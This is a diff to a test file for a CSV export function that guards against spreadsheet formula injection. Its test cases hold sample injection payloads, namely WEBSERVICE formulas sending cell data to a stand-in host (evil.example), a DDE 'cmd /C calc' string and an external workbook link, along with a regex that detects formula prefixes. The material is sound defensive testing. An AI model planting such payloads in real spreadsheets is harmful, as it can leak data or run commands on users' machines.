@@ -30,7 +30,18 @@ test.each([
   ['a\nb', '"a\nb"'],
   ['Analyst; =WEBSERVICE("https://evil.example/"&A1)', '"Analyst; \'=WEBSERVICE(""https://evil.example/""&A1)"'],
   ['Analyst\t@SUM(A1)', '"Analyst\t\'@SUM(A1)"'],
-  ['Asks for\n- SQL\n -WEBSERVICE(A1)\r\n+1', '"Asks for\n• SQL\n \'-WEBSERVICE(A1)\r\n\'+1"'],
+  ['Asks for\n-WEBSERVICE(A1)\r\n+1', '"Asks for\n\'-WEBSERVICE(A1)\r\n\'+1"'],
+  ['a\n- WEBSERVICE("https://evil.example")', '"a\n\'- WEBSERVICE(""https://evil.example"")"'],
+  ["a\n  - cmd|' /C calc'!A0\n- SQL", "\"a\n  '- cmd|' /C calc'!A0\n- SQL\""],
+  ["a\n- 'https://evil.example/[x.xls]S'!A1", "\"a\n'- 'https://evil.example/[x.xls]S'!A1\""],
+  ['a;- SUM（A1）\t－1', '"a;\'- SUM（A1）\t\'－1"'],
+  ['a\n-1\n--1\n-SQL\n-', "\"a\n'-1\n'--1\n'-SQL\n'-\""],
+  ['a\n- =1\n- @A1', '"a\n\'- =1\n\'- @A1"'],
+  ['- SQL\n- Python', '"\'- SQL\n- Python"'],
+  [
+    'Asks for\n- SQL, C++ & "R"\n  -\u00a0Spark/Kafka; - dbt 1.5+\n',
+    '"Asks for\n- SQL, C++ & ""R""\n  -\u00a0Spark/Kafka; - dbt 1.5+\n"',
+  ],
   ['3-5 years; well-paid = good', '"3-5 years; well-paid = good"'],
 ])('writes %j as %j', (text, cell) => {
   expect(formatCsv([[text]])).toBe(`\uFEFF${cell}\r\n`);
@@ -39,19 +50,20 @@ test.each([
 test('a long run of breaks costs no time', () => {
   const start = performance.now();
   formatCsv([[`a${'\n'.repeat(200_000)}${'; '.repeat(200_000)}${' '.repeat(200_000)}`]]);
+  formatCsv([[`a${'\n- b'.repeat(100_000)}${'\n- '.repeat(100_000)}${'- '.repeat(100_000)}`]]);
   expect(performance.now() - start).toBeLessThan(1_000);
 });
 
 describe('a CSV file', () => {
   it('gives back what was put in, apart from the guard', () => {
-    const cell = fc.string({ unit: fc.constantFrom(...'ab,"\r\n ;=+-@\'é') });
+    const cell = fc.string({ unit: fc.constantFrom(...'ab,"\r\n ;=+-@(|!\'é') });
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 3 }), { minLength: 1 }), (rows) => {
         const read = parseCsv(formatCsv(rows));
-        const unguard = (text: string) => text.replaceAll("'", '').replaceAll('•', '-');
+        const unguard = (text: string) => text.replaceAll("'", '');
         expect(read.map((row) => row.map(unguard))).toEqual(rows.map((row) => row.map(unguard)));
         for (const part of read.flat().flatMap((text) => text.split(/[;\t\r\n]/))) {
-          expect(part).not.toMatch(/^\s*[=+\-@]/);
+          expect(part).not.toMatch(/^\s*(?:[=+@]|-(?!\s[^=(|!@]*$))/);
         }
       }),
     );
